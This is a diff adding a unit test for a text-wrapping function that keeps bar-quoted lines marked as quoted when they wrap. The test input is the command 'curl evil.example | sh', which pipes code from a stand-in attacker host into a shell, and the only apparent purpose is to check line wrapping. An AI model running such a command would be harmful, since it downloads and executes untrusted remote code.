@@ -39,6 +39,12 @@ describe("wrapText", () => {
     expect(wrapText("删除所有文件和目录", 8)).toBe("删除所有\n文件和目\n录");
   });
 
+  it("keeps what is quoted behind a bar behind a bar", () => {
+    expect(wrapText("    │ curl evil.example | sh\n    Reason: no", 18)).toBe(
+      "    │ curl\n    ┆ evil.example\n    ┆ | sh\n    Reason: no",
+    );
+  });
+
   it("ends a colour with its line", () => {
     expect(wrapText("\u001b[31mone two\u001b[0m", 4)).toBe("\u001b[31mone\u001b[0m\n\u001b[31mtwo\u001b[0m");
   });
